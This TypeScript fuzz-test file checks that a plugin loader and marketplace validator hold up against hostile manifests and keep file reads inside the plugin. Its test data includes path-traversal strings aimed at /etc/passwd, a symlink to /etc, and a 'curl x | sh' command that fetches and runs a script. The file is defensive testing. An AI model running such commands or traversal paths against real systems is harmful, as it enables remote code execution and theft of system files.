import { mkdirSync, rmSync, symlinkSync } from "node:fs"
import { join } from "node:path"
import { ChorusError } from "@chorus/contracts"
import { addMarketplace, executableSurface, readInventory, readPlugin, validatePath } from "@chorus/plugins"
import * as fc from "fast-check"
import { afterAll, expect, it } from "vitest"
import { Workbench } from "../../packages/plugins/test/workbench.ts"
import { hostileJson, hostileText, runs, STABLE_CODE } from "./hostile.ts"

const bench = new Workbench()
let number = 0

afterAll(() => bench[Symbol.asyncDispose]())

const path = fc.constantFrom(
  "./commands",
  "./a.md",
  "../../etc/passwd",
  "/etc/passwd",
  "./out/passwd",
  "./missing",
  "./.",
  "",
  "./a.md\u0000",
  "commands",
  "./é",
  "file:///etc/passwd",
)
const server = fc.record(
  {
    command: or(fc.constantFrom("node", "./run.sh", "sh -c 'curl x | sh'")),
    args: or(fc.array(hostileText, { maxLength: 2 })),
    env: hostileJson,
    url: hostileJson,
    type: hostileJson,
  },
  { requiredKeys: [] },
)
const hooks = fc.dictionary(
  fc.constantFrom("PreToolUse", "Stop", "Nonsense", "__proto__"),
  or(
    fc.array(
      fc.record(
        {
          matcher: hostileJson,
          hooks: or(
            fc.array(
              fc.record(
                {
                  type: or(fc.constantFrom("command", "http", "prompt")),
                  command: or(hostileText),
                  timeout: hostileJson,
                },
                { requiredKeys: [] },
              ),
              { maxLength: 2 },
            ),
          ),
        },
        { requiredKeys: [] },
      ),
      { maxLength: 2 },
    ),
  ),
  { maxKeys: 2 },
)
const manifest = fc.record(
  {
    name: or(fc.constant("p")),
    version: or(fc.constantFrom("1.0.0", "v1", "")),
    description: hostileJson,
    author: hostileJson,
    keywords: hostileJson,
    commands: or(path),
    agents: or(fc.array(path, { maxLength: 2 })),
    skills: or(path),
    hooks: or(
      fc.oneof(
        hooks.map((each) => ({ hooks: each })),
        path,
      ),
    ),
    mcpServers: or(fc.oneof(fc.dictionary(hostileText, server, { maxKeys: 2 }), path)),
    lspServers: or(fc.dictionary(hostileText, server, { maxKeys: 1 })),
    outputStyles: or(path),
    userConfig: or(fc.dictionary(hostileText, hostileJson, { maxKeys: 2 })),
    dependencies: or(fc.array(hostileJson, { maxLength: 2 })),
    monitors: hostileJson,
  },
  { requiredKeys: [] },
)

it("a manifest of any JSON gets a verdict with codes, and what it names is never read outside of the plugin", async () => {
  await fc.assert(
    fc.asyncProperty(or(manifest), or(hooks), hostileText, async (content, hookFile, words) => {
      const root = folder({
        ".claude-plugin/plugin.json": JSON.stringify(content) ?? "",
        "hooks/hooks.json": JSON.stringify({ hooks: hookFile }),
        "commands/a.md": `---\n${words}\n---\n${words}`,
        "skills/s/SKILL.md": `---\nname: ${words}\ndescription: [\n---\n`,
      })
      symlinkSync("/etc", join(root, "out"))
      const report = validatePath(root)
      for (const message of report.messages) expect(message.code, JSON.stringify(message)).toMatch(STABLE_CODE)
      expect(JSON.stringify(report)).not.toContain("root:x:0")
      outcome(() => {
        const plugin = readPlugin(root)
        const inventory = readInventory(plugin)
        const surface = executableSurface(plugin, inventory)
        expect(JSON.stringify([inventory, surface])).not.toContain("root:x:0")
      })
      rmSync(root, { recursive: true })
    }),
    runs(100, 10_000),
  )
})

it("a catalogue of any JSON gets a verdict, and is added or refused by code", async () => {
  const source = fc.oneof(
    path,
    fc.record(
      {
        source: fc.constantFrom("github", "url", "git-subdir", "npm", "archive", "command", "nonsense"),
        repo: hostileText,
        url: hostileText,
        path: hostileText,
        package: hostileText,
        ref: hostileText,
        sha: hostileText,
        command: hostileJson,
      },
      { requiredKeys: ["source"] },
    ),
    hostileJson,
  )
  const entry = fc.record(
    {
      name: or(fc.constantFrom("a", "b")),
      source,
      version: hostileJson,
      strict: hostileJson,
      category: hostileJson,
      dependencies: hostileJson,
    },
    { requiredKeys: [] },
  )
  const catalogue = fc.record(
    {
      name: or(fc.constant("mkt")),
      owner: or(fc.constant({ name: "o" })),
      plugins: or(fc.array(or(entry), { maxLength: 3 })),
      metadata: or(fc.record({ pluginRoot: path })),
      renames: or(fc.dictionary(hostileText, hostileJson, { maxKeys: 2 })),
    },
    { requiredKeys: [] },
  )
  await fc.assert(
    fc.asyncProperty(or(catalogue), async (content) => {
      const root = folder({ ".claude-plugin/marketplace.json": JSON.stringify(content) ?? "" })
      for (const message of validatePath(root).messages)
        expect(message.code, JSON.stringify(message)).toMatch(STABLE_CODE)
      await addMarketplace(bench.context(), { source: "directory", path: root }, "user").then(() => undefined, refusal)
      rmSync(root, { recursive: true })
    }),
    runs(100, 5000),
  )
})

function folder(files: Record<string, string>): string {
  const name = `p${++number}`
  mkdirSync(join(bench.fixtures, name), { recursive: true })
  return bench.write(name, files)
}

function outcome(work: () => void): void {
  try {
    work()
  } catch (error) {
    refusal(error)
  }
}

function refusal(error: unknown): void {
  expect(error, error instanceof Error ? (error.stack ?? "") : String(error)).toBeInstanceOf(ChorusError)
  expect((error as ChorusError).code).toMatch(STABLE_CODE)
}

function or<T>(usual: fc.Arbitrary<T>): fc.Arbitrary<unknown> {
  return fc.oneof({ weight: 4, arbitrary: usual }, { weight: 1, arbitrary: hostileJson })
}
